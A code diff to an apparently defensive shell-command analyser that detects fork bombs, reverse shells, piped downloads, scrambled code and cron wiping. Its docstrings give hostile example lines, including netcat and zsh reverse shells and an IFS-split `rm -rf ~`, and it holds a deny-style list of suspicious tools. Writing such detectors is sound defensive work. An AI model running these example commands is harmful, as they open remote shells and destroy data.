@@ -33,10 +33,23 @@ from app.terminal.command_words import (
     program_name,
     resolve,
     shell_code,
-    static_output,
 )
 from app.terminal.containment import uncovered
-from app.terminal.embedded_code import COMMAND_VARIABLES, awk_program, hidden_commands, make_recipes
+from app.terminal.embedded_code import (
+    COMMAND_VARIABLES,
+    awk_program,
+    awk_writes,
+    hidden_commands,
+    make_recipes,
+)
+from app.terminal.pipe_checks import (
+    empty_input,
+    fetches,
+    fork_bomb,
+    lists_every_process,
+    name_args,
+    starts_from_literal,
+)
 from app.terminal.program_checks import (
     REMOTE_SHELL,
     assignment_reasons,
@@ -45,6 +58,7 @@ from app.terminal.program_checks import (
     program_reasons,
 )
 from app.terminal.shell_syntax import WRITE_REDIRECT_OPS, Command, ShellSyntaxError, Word, parse
+from app.terminal.static_text import pipeline_output, static_output
 from app.terminal.system_checks import KERNEL_OFF
 
 MAX_DEPTH = 6
@@ -54,10 +68,7 @@ _SUSPICIOUS = frozenset({"rm", "dd", "shred", "wipefs", "fdisk", "parted", "shut
                          "halt", "poweroff", "init", "systemctl", "kill", "chmod", "chown", "curl",
                          "wget", "eval", "history", "unset", "truncate", "crontab", "mv",
                          "HISTFILE", "sh", "bash", "base64"})
-_PICKERS = frozenset({"grep", "egrep", "fgrep", "rg", "pgrep", "head", "tail", "sed"})
 _CODE_RUNNERS = frozenset({"eval", "watch", "ssh", "su", "runuser", "script", "trap", "flock"})
-_FUNC_DEF_RE = re.compile(r"(?:\bfunction\s+([^\s(){};|&]{1,64})\s*(?:\(\s*\))?|"
-                          r"(?<![^\s;&|(){}])([^\s(){};|&]{1,64})\s*\(\s*\))\s*\{([^{}]{0,500})\}")
 _BACKTICK_RE = re.compile(r"`([^`]+)`")
 
 
@@ -114,45 +125,14 @@ def analyse(command: str) -> Analysis:
                     tuple(inspector.segments))
 
 
-def _fork_bomb(text: str) -> bool:
-    for match in _FUNC_DEF_RE.finditer(text):
-        name = re.escape(match.group(1) or match.group(2))
-        if re.search(rf"(?<![\w./-]){name}(?:\s*\|\s*{name}(?![\w./-])|\s*&(?!&))",
-                     match.group(3)):
-            return True
-    return False
-
-
-def _lists_every_process(commands: list[Command]) -> bool:
-    """A pipeline that prints every process id: `ps` with nothing picking some out."""
-    listed = filtered = False
-    for command in commands:
-        resolved = resolve([w.text for w in command.words])
-        picks = resolved.name in ("awk", "gawk", "mawk") and re.search(
-            r"/|~|==|NR|\$\d+\s*[<>]", " ".join(resolved.args))
-        listed |= resolved.name == "ps"
-        filtered |= bool(picks) or resolved.name in _PICKERS
-    return listed and not filtered
-
-
-def _fetches(text: str) -> bool:
-    """True when a substitution's inner command downloads or decodes something."""
-    try:
-        commands = parse(text)
-    except ShellSyntaxError:
-        return bool(re.search(r"\b(?:curl|wget|base64)\b", text))
-    for command in commands:
-        resolved = resolve([word.text for word in command.words])
-        if resolved.name in DOWNLOADERS or is_decoder(resolved):
-            return True
-    return False
-
-
 def _static_words(command: Command, variables: dict[str, str]) -> tuple[list[str], list[Word]]:
     """Word texts with same-line variables and echo-only substitutions filled in.
 
-    An unquoted word that expands to several words is split, as bash would split it.
+    An unquoted word that expands to several words is split, as bash would split it (on the
+    `IFS` characters when the line set them: `IFS=,; c="rm,-rf,~"; $c`).
     """
+    separators = variables.get("IFS")
+    split = re.compile(f"[{re.escape(separators)}]+") if separators else re.compile(r"\s+")
     texts: list[str] = []
     words: list[Word] = []
     for word in command.words:
@@ -160,7 +140,8 @@ def _static_words(command: Command, variables: dict[str, str]) -> tuple[list[str
         for inner in word.substitutions:
             if (printed := static_output(inner)) is not None:
                 text = text.replace(f"$({inner})", printed).replace(f"`{inner}`", printed)
-        parts = text.split() if text != word.text and not word.quoted else [text]
+        parts = [p for p in split.split(text) if p] if text != word.text and not word.quoted \
+            else [text]
         texts += parts
         words += [word] * len(parts)
     return texts, words
@@ -174,11 +155,12 @@ def _runner_code(name: str, args: list[str]) -> str | None:
         return args[0] if args and not args[0].startswith("-") else None
     if name in ("su", "runuser", "script", "flock"):
         for index, arg in enumerate(args):
-            if arg in ("-c", "--command") and index + 1 < len(args):
+            if (arg == "--command" or re.fullmatch(r"-[A-Za-z]*c", arg)) and index + 1 < len(args):
                 return args[index + 1]
             if arg.startswith("--command="):
                 return arg.partition("=")[2]
-        return " ".join(options(args, valued="wEn")[2][1:]) or None if name == "flock" else None
+        return " ".join(options(args, valued="wE", stop_at_positional=True)[2][1:]) or None \
+            if name == "flock" else None
     valued = "bcDEeFIiJLlmOopQRSWw" if name == "ssh" else "nqd"
     rest = options(args, valued=valued, stop_at_positional=True)[2]
     return " ".join(rest[1:] if name == "ssh" else rest) or None
@@ -205,7 +187,7 @@ class _Inspector:
         if depth > MAX_DEPTH:
             self.certain = False
             return
-        if _fork_bomb(text):
+        if fork_bomb(text):
             self.reasons.append("fork bomb: starts copies of itself until the computer freezes")
         try:
             commands = parse(text)
@@ -216,6 +198,19 @@ class _Inspector:
         for command in commands:
             self.inspect_command(command, line, depth)
         self._remote_shell_pipes(commands)
+        self._shell_on_connection(commands)
+
+    def _shell_on_connection(self, commands: list[Command]) -> None:
+        """`ztcp host 4444 && zsh >&$REPLY 0>&$REPLY`: a connection is opened and a shell's
+        input or output is pointed at an extra file descriptor (where the connection is)."""
+        if not any(net.connector(*name_args(c)) for c in commands):
+            return
+        for command in commands:
+            if name_args(command)[0] in SHELLS and any(
+                    r.op in (">&", "<&") and r.target.text not in ("0", "1", "2", "-")
+                    for r in command.redirects):
+                self.reasons.append(REMOTE_SHELL)
+                return
 
     def _remote_shell_pipes(self, commands: list[Command]) -> None:
         """`nc host 4444 | sh`, `mkfifo f; cat f | sh -i | nc host 4444 > f`: a shell whose
@@ -265,7 +260,7 @@ class _Inspector:
         they run does not make the outer command uncertain.
         """
         certain = self.certain
-        if _fork_bomb(code):
+        if fork_bomb(code):
             self.reasons.append("fork bomb: starts copies of itself until the computer freezes")
         for shell_command in code_checks.shell_calls(code):
             self.inspect_hosted(shell_command, depth - 1, host)
@@ -331,6 +326,16 @@ class _Inspector:
             self.inspect_hosted(hidden, depth, name)
         if name in ("awk", "gawk", "mawk", "nawk") and (program := awk_program(args)):
             self.reasons += code_checks.code_reasons(program)
+            self.reasons += [r for target in awk_writes(program)
+                             if (r := paths.write_target_reason(target, line.cwd))]
+        if name == "make":
+            for word in resolved.arg_words:
+                for inner in word.substitutions if word.process_substitution else []:
+                    for recipe in make_recipes(static_output(inner) or ""):
+                        self.inspect_hosted(recipe, depth, "make")
+        if name == "alias":
+            for value in (arg.partition("=")[2] for arg in args if "=" in arg):
+                self.inspect_hosted(value, depth, "an alias")
         if name == "make" and command.stdin_text and set(args) & {"-", "/dev/stdin"}:
             for recipe in make_recipes(command.stdin_text):
                 self.inspect_hosted(recipe, depth, "make")
@@ -355,6 +360,8 @@ class _Inspector:
                                                         or resolved.args[-1] == "-")
         cron = crontab_stdin or any(paths.CRON_FILE.match(p) for p in paths_written)
         boot = any(paths.BOOT_CONFIG.match(p) for p in paths_written)
+        if crontab_stdin and empty_input(command):
+            self.reasons.append("deletes all your scheduled cron jobs (installs an empty table)")
         if not (cron or boot):
             return
         texts = [" ".join(resolved.args)]
@@ -382,7 +389,7 @@ class _Inspector:
                     sources.append(parse(inner))
                 except ShellSyntaxError:
                     continue
-        return any(_lists_every_process(commands) for commands in sources)
+        return any(lists_every_process(commands) for commands in sources)
 
     def _command_variable(self, name: str, value: str, depth: int) -> None:
         """`PAGER='sh -c …'`, `LESSOPEN='|…'`: the value is a command some program runs."""
@@ -412,7 +419,7 @@ class _Inspector:
     def _hidden_program(self, resolved: Resolved, line: _Line) -> None:
         """The program name comes from a variable or substitution Flywheel cannot know."""
         self.certain = False
-        if resolved.head and any(_fetches(inner) for inner in resolved.head.substitutions):
+        if resolved.head and any(fetches(inner) for inner in resolved.head.substitutions):
             self.reasons.append(PIPE_DOWNLOAD)
         short, long_, targets = options(resolved.args)
         if short & {"r", "R"} or "--recursive" in long_:
@@ -437,6 +444,8 @@ class _Inspector:
         if not resolved.via_xargs:
             return []
         found = command.stdin_text.split() if command.stdin_text is not None else []
+        if len(command.upstream) > 1 and (computed := pipeline_output(command.upstream)):
+            found += computed.split()
         for upstream in command.upstream:
             source = resolve([w.text for w in upstream.words])
             if (printed := printed_text(source)) is not None:
@@ -470,7 +479,7 @@ class _Inspector:
                 self.inspect_hosted(code, depth, name)
             else:
                 self.inspect(code, depth + 1)
-        if any(_fetches(inner) for word in resolved.arg_words for inner in word.substitutions):
+        if any(fetches(inner) for word in resolved.arg_words for inner in word.substitutions):
             self.reasons.append(PIPE_DOWNLOAD)
         if script and posixpath.basename(script) in line.downloaded:
             self.reasons.append("downloads a script and runs it straight away")
@@ -478,14 +487,28 @@ class _Inspector:
             self._stdin_code(name, command, depth)
 
     def _stdin_code(self, name: str, command: Command, depth: int) -> None:
-        """Code arriving on stdin: a here-document, or whatever is piped in."""
+        """Code arriving on stdin: a here-document, or whatever is piped in.
+
+        Text written on the line and reshaped on its way in (`rev <<< … | sh`) is computed
+        when the tools are known (`static_text`); when they are not, the code that runs is
+        hidden from the reader, which alone asks for the typed confirmation."""
+        upstream = command.upstream
+        computed = pipeline_output(upstream) if upstream else None
+        if computed is not None and (len(upstream) > 1 or upstream[0].stdin_text is not None):
+            if name in INTERPRETERS:
+                self.inspect_program_text(computed, depth + 1, name)
+            else:
+                self.inspect(computed, depth + 1)
+        elif upstream and computed is None and starts_from_literal(upstream):
+            self.reasons.append("runs code that is rebuilt from scrambled text while it runs, "
+                                "so nobody can read it first")
         if command.stdin_text is not None:
             if name in INTERPRETERS:
                 self.inspect_program_text(command.stdin_text, depth + 1, name)
             else:
                 self.inspect(command.stdin_text, depth + 1)
         for upstream in command.upstream:
-            source = resolve([w.text for w in upstream.words])
+            source = resolve(*_static_words(upstream, {}))
             if source.name in DOWNLOADERS:
                 self.reasons.append(PIPE_DOWNLOAD)
             elif is_decoder(source):
